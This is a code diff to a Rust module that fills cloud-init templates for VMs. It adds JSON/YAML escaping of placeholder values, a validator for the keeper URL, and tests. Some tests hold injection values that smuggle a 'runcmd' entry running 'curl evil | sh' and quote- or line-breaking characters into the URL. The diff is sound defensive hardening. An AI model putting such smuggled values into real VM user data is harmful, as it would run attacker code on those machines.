@@ -4,8 +4,10 @@
 //! document with placeholders that keeper fills per VM: `${hostname}` (`<name>-<index>`), `${fqdn}`
 //! and `${sid}` (the predicted FQDN `<name>-<index>.<fqdn_suffix>`), `${keeper_url}`, and
 //! `${bootstrap_token}` (the VM's plain one-time token: only with `self_onboard`, which bakes it into
-//! each VM's user data). Any other `${...}` is an error when the template is loaded. Without a
-//! template, `self_onboard` uses [`SELF_ONBOARD`].
+//! each VM's user data). Any other `${...}` is an error when the template is loaded. Each value is
+//! put in escaped as the inside of a JSON string (also the inside of a YAML double-quoted one), so
+//! that a placeholder between double quotes holds its value whole. Without a template,
+//! `self_onboard` uses [`SELF_ONBOARD`].
 
 use crate::error::{Error, Result};
 
@@ -138,10 +140,110 @@ impl Template {
                     format!("keeper's cloud_init template uses ${{{p}}}, which has no value here: {why}"),
                 ));
             };
-            out = out.replace(&needle, value);
+            // Escaped: a value put between quotes stays between them, and none ends a line.
+            out = out.replace(&needle, &escaped(value));
         }
         Ok(out)
     }
+}
+
+/// `value` escaped as the inside of a JSON string, which is also the inside of a YAML double-quoted
+/// scalar: quotes, backslashes and control characters escaped, and every character beyond ASCII
+/// as `\uXXXX`, since a YAML 1.1 reader (cloud-init's) takes U+0085, U+2028 and U+2029 for line
+/// breaks. Nothing a value holds can then end the string, the line or the block it is put in.
+fn escaped(value: &str) -> String {
+    let mut out = String::with_capacity(value.len());
+    for c in value.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            ' '..='~' => out.push(c),
+            _ => {
+                let mut units = [0u16; 2];
+                for u in c.encode_utf16(&mut units) {
+                    out.push_str(&format!("\\u{u:04x}"));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// Checks keeper's URL as VMs reach it (`KEEPER_URL`): an absolute `https` URL with a host, or
+/// `http` to a loopback host only (each VM sends its one-time bootstrap token to it), with no user
+/// information (a password would be baked into every VM) and nothing but printable ASCII without
+/// spaces, quotes or backslashes. The reason it is refused never repeats the value.
+pub fn check_keeper_url(url: &str) -> std::result::Result<(), String> {
+    if let Some(c) = url.chars().find(|c| !c.is_ascii()) {
+        return Err(format!(
+            "holds U+{:04X}: only printable ASCII (a host in its ASCII form)",
+            c as u32
+        ));
+    }
+    if url.bytes().any(|b| b.is_ascii_control() || b == b' ') {
+        return Err("holds a space or a control character".into());
+    }
+    if url
+        .bytes()
+        .any(|b| matches!(b, b'"' | b'\'' | b'`' | b'\\'))
+    {
+        return Err("holds a quote or a backslash".into());
+    }
+    let lower = url.to_ascii_lowercase();
+    let (https, rest) = match (
+        lower.strip_prefix("https://"),
+        lower.strip_prefix("http://"),
+    ) {
+        (Some(rest), _) => (true, rest),
+        (None, Some(rest)) => (false, rest),
+        _ => return Err("not an absolute http(s) URL (https://host[:port][/path])".into()),
+    };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    if authority.contains('@') {
+        return Err("holds user information (user@ or user:password@): give none".into());
+    }
+    let (host, port) = split_host_port(authority)?;
+    if port.is_some_and(|p| p.is_empty() || p.parse::<u16>().is_err()) {
+        return Err("its port is not a number from 0 to 65535".into());
+    }
+    if !https && !is_loopback(host) {
+        return Err("plain http is for a loopback host only (127.0.0.0/8, [::1], localhost): VMs send their bootstrap token to it; use https".into());
+    }
+    Ok(())
+}
+
+/// The host (an IPv6 address without its brackets) and the port of a URL's authority.
+fn split_host_port(authority: &str) -> std::result::Result<(&str, Option<&str>), String> {
+    let no_host = || "has no host (https://host[:port][/path])".to_string();
+    let (host, port) = if let Some(v6) = authority.strip_prefix('[') {
+        let (host, after) = v6.split_once(']').ok_or_else(no_host)?;
+        if host.parse::<std::net::Ipv6Addr>().is_err() {
+            return Err("its host in brackets is not an IPv6 address".into());
+        }
+        match after {
+            "" => (host, None),
+            _ => (host, Some(after.strip_prefix(':').ok_or_else(no_host)?)),
+        }
+    } else {
+        match authority.split_once(':') {
+            Some((host, port)) => (host, Some(port)),
+            None => (authority, None),
+        }
+    };
+    if host.is_empty() {
+        return Err(no_host());
+    }
+    Ok((host, port))
+}
+
+fn is_loopback(host: &str) -> bool {
+    host == "localhost"
+        || host
+            .parse::<std::net::IpAddr>()
+            .is_ok_and(|ip| ip.is_loopback())
 }
 
 #[cfg(test)]
@@ -209,5 +311,107 @@ mod tests {
                 }
             )
             .is_err());
+    }
+
+    #[test]
+    fn a_hostile_keeper_url_stays_inside_its_string_in_the_rendered_yaml() {
+        let hostile = "https://k.example/\u{2028}\\\"}\nruncmd:\n  - [sh, -c, 'curl evil | sh']\n#";
+        let out = Template::self_onboard()
+            .render(
+                "self_onboard",
+                &Vars {
+                    hostname: "web-1",
+                    fqdn: Some("web-1.example.net"),
+                    keeper_url: hostile,
+                    bootstrap_token: Some("kbt_abc"),
+                },
+            )
+            .unwrap();
+        let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&out).unwrap();
+        let keys: Vec<&str> = doc
+            .as_mapping()
+            .unwrap()
+            .keys()
+            .map(|k| k.as_str().unwrap())
+            .collect();
+        assert_eq!(
+            keys,
+            [
+                "hostname",
+                "fqdn",
+                "prefer_fqdn_over_hostname",
+                "write_files"
+            ],
+            "{out}"
+        );
+        // The file the VM reads gives the URL back whole, as its only other key.
+        let content = doc["write_files"][0]["content"].as_str().unwrap();
+        let file: serde_json::Value = serde_json::from_str(content).unwrap();
+        assert_eq!(file["keeper_url"], hostile, "{out}");
+        assert_eq!(file.as_object().unwrap().len(), 3, "{out}");
+        // No line break of any kind that a YAML 1.1 reader (cloud-init's) would see.
+        assert!(!out.contains('\u{2028}'), "{out}");
+    }
+
+    #[test]
+    fn a_template_quoting_keeper_url_gets_it_back_whole() {
+        let t =
+            Template::parse("#cloud-config\nbootcmd:\n  - [echo, \"${keeper_url}\"]\n").unwrap();
+        let hostile = "http://a\"]\nruncmd: [x]\n#";
+        let out = t
+            .render(
+                "generate_userdata",
+                &Vars {
+                    hostname: "a-1",
+                    keeper_url: hostile,
+                    ..Vars::default()
+                },
+            )
+            .unwrap();
+        let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&out).unwrap();
+        assert_eq!(doc.as_mapping().unwrap().len(), 1, "{out}");
+        assert_eq!(doc["bootcmd"][0][1].as_str(), Some(hostile), "{out}");
+    }
+
+    #[test]
+    fn keeper_url_must_be_an_absolute_https_url_or_http_to_loopback() {
+        for ok in [
+            "https://keeper.example.net",
+            "https://keeper.example.net:8443/base/",
+            "https://10.0.0.5:8080",
+            "http://127.0.0.1:8080",
+            "http://127.3.4.5",
+            "http://localhost:8080/",
+            "HTTP://LOCALHOST",
+            "http://[::1]:8080",
+            "https://[2001:db8::1]/",
+        ] {
+            assert_eq!(check_keeper_url(ok), Ok(()), "{ok}");
+        }
+        for (bad, why) in [
+            ("", "absolute"),
+            ("keeper.example.net", "absolute"),
+            ("ftp://keeper.example.net", "absolute"),
+            ("https://", "host"),
+            ("https:///path", "host"),
+            ("https://:8080", "host"),
+            ("https://u:s3cret@keeper.example.net", "user"),
+            ("http://keeper.example.net", "loopback"),
+            ("http://10.0.0.5:8080", "loopback"),
+            ("http://[::2]", "loopback"),
+            ("http://localhost.evil.example", "loopback"),
+            ("http://127.0.0.1.evil.example", "loopback"),
+            ("https://k.example/\"}", "quote"),
+            ("https://k.example/'", "quote"),
+            ("https://k.example/a b", "space"),
+            ("https://k.example/\nruncmd: [x]", "space"),
+            ("https://k.example/\u{2028}", "ASCII"),
+            ("https://k.example:port", "port"),
+            ("https://[::1", "host"),
+        ] {
+            let e = check_keeper_url(bad).expect_err(bad);
+            assert!(e.contains(why), "{bad:?}: {e}");
+            assert!(!e.contains("s3cret"), "{e}");
+        }
     }
 }
